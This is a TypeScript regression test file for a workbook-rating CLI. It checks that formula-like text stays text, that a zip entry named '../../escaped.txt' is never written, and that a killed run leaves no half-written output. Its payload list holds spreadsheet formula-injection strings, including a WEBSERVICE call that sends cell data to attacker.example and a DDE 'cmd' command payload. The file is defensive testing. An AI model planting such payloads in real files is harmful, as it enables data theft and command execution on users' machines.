/**
 * What held when the project was attacked (issue 14), pinned so that it keeps holding: workbook text
 * that looks like a formula stays text in everything written; a zip entry whose name climbs out of
 * the package is never written anywhere; a rate killed while writing leaves no half-written output
 * and the input unchanged.
 */
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, promises as fs } from 'node:fs';
import path from 'node:path';
import JSZip from 'jszip';
import { baseWorkbook } from '../support/samples/hostileWorkbooks';
import { cli } from '../helpers/cli';
import { tempDir } from '../helpers/workbooks';

const PAYLOADS = ['=WEBSERVICE("http://attacker.example/?d="&A1)', "=cmd|' /C calc'!A0", '+SUM(1,1)', '-1+1', '@SUM(A1)'];

let dir: string;
beforeAll(async () => {
  dir = await tempDir('evalsheet-held-');
});
afterAll(() => fs.rm(dir, { recursive: true, force: true }));

test('indicator names that look like formulas are written as text into the summary, never as formulas', async () => {
  const zip = await JSZip.loadAsync(await baseWorkbook());
  let sst = await zip.file('xl/sharedStrings.xml')!.async('string');
  const names = ['交通事故発生件数', '自主防犯パトロール団体数', '交通安全講習の開催回数'];
  names.forEach((n, i) => {
    expect(sst).toContain(`>${n}<`);
    sst = sst.replace(`>${n}<`, `>${PAYLOADS[i].replace(/&/g, '&amp;').replace(/"/g, '&quot;')}<`);
  });
  zip.file('xl/sharedStrings.xml', sst);
  const input = path.join(dir, 'formulas.xlsx');
  await fs.writeFile(input, await zip.generateAsync({ type: 'nodebuffer' }));
  const output = path.join(dir, 'formulas-rated.xlsx');
  const r = await cli('rate', input, '-o', output);
  expect([0, 1]).toContain(r.code);
  const out = await JSZip.loadAsync(await fs.readFile(output));
  const summary = Object.keys(out.files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n));
  let seen = 0;
  for (const part of summary) {
    const xml = await out.file(part)!.async('string');
    for (const p of PAYLOADS.slice(0, 3)) {
      const esc = p.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
      // Never the body of a formula element.
      expect(xml).not.toContain(`<f>${esc.slice(1)}</f>`);
      expect(xml).not.toContain(`<f>${esc}</f>`);
      if (xml.includes(esc)) seen++;
    }
  }
  // The payloads are in the output as text (inline in the summary sheet, or shared strings).
  const strings = (await out.file('xl/sharedStrings.xml')?.async('string')) ?? '';
  expect(seen + PAYLOADS.slice(0, 3).filter((p) => strings.includes(p.replace(/&/g, '&amp;').replace(/"/g, '&quot;'))).length).toBeGreaterThan(0);
});

test('a zip entry named ../../x is never written outside the package (nor anywhere)', async () => {
  const zip = await JSZip.loadAsync(await baseWorkbook());
  zip.file('../../escaped.txt', 'should never be written');
  const input = path.join(dir, 'sub', 'traversal.xlsx');
  await fs.mkdir(path.dirname(input), { recursive: true });
  await fs.writeFile(input, await zip.generateAsync({ type: 'nodebuffer' }));
  const before = await fs.readdir(dir);
  const r = await cli('rate', input, '-o', path.join(dir, 'sub', 'traversal-rated.xlsx'));
  expect([0, 1, 2]).toContain(r.code);
  expect(existsSync(path.join(dir, 'escaped.txt'))).toBe(false);
  expect(existsSync(path.resolve(dir, '..', 'escaped.txt'))).toBe(false);
  expect((await fs.readdir(dir)).sort()).toEqual(before.sort());
});

test('rate killed at any moment while it works leaves the input unchanged and no half-written output', async () => {
  const input = path.join(dir, 'kill.xlsx');
  await fs.writeFile(input, await baseWorkbook());
  const hash = async (f: string) =>
    createHash('sha256')
      .update(await fs.readFile(f))
      .digest('hex');
  const original = await hash(input);
  const bin = path.resolve(__dirname, '../../bin/evalsheet.js');
  for (let i = 0; i < 8; i++) {
    const output = path.join(dir, `kill-${i}.xlsx`);
    const child = spawn(process.execPath, [bin, 'rate', input, '-o', output], { stdio: 'ignore' });
    const exited = new Promise((r) => child.on('exit', r));
    await new Promise((r) => setTimeout(r, 150 + i * 60));
    child.kill('SIGKILL');
    await exited;
    expect(await hash(input)).toBe(original);
    if (existsSync(output)) {
      // Whatever is there is whole: it reads.
      const r = await cli('check', output);
      expect([0, 1]).toContain(r.code);
    }
  }
});
